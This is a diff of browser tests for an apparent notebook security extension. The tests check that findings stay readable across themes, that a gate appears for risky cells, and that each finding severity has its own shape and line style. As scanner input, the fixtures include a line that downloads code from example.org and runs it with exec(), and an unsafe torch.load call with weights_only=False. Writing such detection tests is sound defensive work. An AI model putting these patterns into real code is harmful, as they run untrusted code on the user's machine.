@@ -8,14 +8,21 @@ from typing import Any
 from playwright.sync_api import Locator, Page, expect
 
 from tests.browser.axe import violations
+from tests.browser.gated import RISKY
 from tests.pages import command, tooltip
 
 LOAD = 'import torch\n\nweights = torch.load("weights.pt", weights_only=False)'
+REMOTE = "import requests\n\nexec(requests.get('https://example.org/x.py').text)"
 CHECKLIST = "%load_ext jupyter_mlsec\n%mlsec declare profile profile=regulated\n%mlsec checklist"
 THEMES = ("JupyterLab Dark", "JupyterLab Dark High Contrast", "JupyterLab Light")
 DRAWN = """node => {
   const {backgroundColor, clipPath, borderRadius} = getComputedStyle(node);
   return [backgroundColor, clipPath === 'none' ? borderRadius : clipPath];
+}"""
+DIAMOND = "polygon(50% 0px, 100% 50%, 50% 100%, 0px 50%)"
+BEFORE = """node => {
+  const {clipPath, borderRadius} = getComputedStyle(node, '::before');
+  return clipPath === 'none' ? borderRadius : clipPath;
 }"""
 
 OpenNotebook = Callable[..., Page]
@@ -44,7 +51,14 @@ def look(page: Page) -> list[Any]:
     if item.get_by_role("form").count() == 0:
         item.locator("summary").click()
         item.get_by_role("button", name="Answer…").click()
-    return [*found, *violations(page, "#mlsec-checklist", ".mlsec-checklist")]
+    found += violations(page, "#mlsec-checklist", ".mlsec-checklist", ".mlsec-gate")
+    command(page, "mlsec:export-run")
+    form = page.get_by_role("dialog")
+    expect(form.get_by_label("rows (int)")).to_be_visible()
+    found += violations(page, ".mlsec-export")
+    form.get_by_role("button", name="Cancel").click()
+    expect(form).to_have_count(0)
+    return found
 
 
 def shapes(marks: Locator) -> list[str]:
@@ -55,13 +69,17 @@ def shapes(marks: Locator) -> list[str]:
 
 
 def test_all_is_readable_in_every_theme_and_in_forced_colours(
-    open_notebook: OpenNotebook, code: Code, token: str, picture: Picture
+    blocking: OpenNotebook, code: Code, token: str, picture: Picture
 ) -> None:
     printed = {"output_type": "stream", "name": "stdout", "text": [f"token: {token}\n"]}
-    cells = [code(LOAD, printed), code("!pip install lightgbm"), code("model.fit(x)"), code(CHECKLIST)]
-    page = open_notebook(cells)
-    page.locator('.jp-Cell[data-windowed-list-index="3"] .cm-content').click()
-    page.keyboard.press("Control+Enter")
+    parameters = code("rows = 100", tags=["parameters"])
+    cells = [code(LOAD, printed), code(RISKY), code("!pip install lightgbm"), parameters, code(CHECKLIST)]
+    page = blocking(cells)
+    for index in (4, 1):
+        page.locator(f'.jp-Cell[data-windowed-list-index="{index}"] .cm-content').click()
+        page.keyboard.press("Control+Enter")
+    page.locator(".mlsec-gate").get_by_role("button", name="Run anyway").click()
+    expect(page.locator(".mlsec-gate").get_by_role("textbox")).to_be_visible()
     page.locator(".mlsec-checklist [data-mlsec-item=GOV-06] summary").click()
     found = {}
     for theme in THEMES:
@@ -85,6 +103,28 @@ def test_all_is_readable_in_every_theme_and_in_forced_colours(
     toggle.click()
     page.emulate_media(forced_colors="none")
     assert found == {key: [] for key in (*THEMES, "forced")}
-    assert gutter == ["polygon(50% 0px, 100% 50%, 50% 100%, 0px 50%)", "50%"]
+    assert gutter == [DIAMOND, DIAMOND, "50%"]
     assert line == ["underline", "wavy"]
     assert (pressed, released != pressed) == ("solid", True)
+
+
+def test_each_severity_has_a_shape_and_a_line_of_its_own(open_document: OpenNotebook, code: Code) -> None:
+    every = f"{REMOTE}\nimport torch\ntorch.load('w.pt', weights_only=False)\n!pip install lightgbm"
+    page = open_document([code(every)])
+    command(page, "mlsec:show-findings")
+    rows = page.locator("#mlsec-findings .mlsec-row .mlsec-severity")
+    expect(rows).to_have_text(["Critical", "High", "Low"])
+    expect(page.locator(".cm-gutter-lint .cm-lint-marker")).to_have_count(3)
+    page.emulate_media(forced_colors="active")
+    gutter = shapes(page.locator(".cm-gutter-lint .cm-lint-marker"))
+    panel = [row.evaluate(f"node => ({BEFORE})(node)") for row in rows.all()]
+    page.emulate_media(forced_colors="none")
+    lines = [
+        page.locator(f".cm-lintRange.mlsec-mark-{severity}").first.evaluate(
+            "node => getComputedStyle(node).textDecorationStyle"
+        )
+        for severity in ("critical", "high", "low")
+    ]
+    assert gutter == ["0px", DIAMOND, "50%"]  # a square, a diamond, a circle
+    assert panel == gutter
+    assert lines == ["double", "wavy", "dotted"]
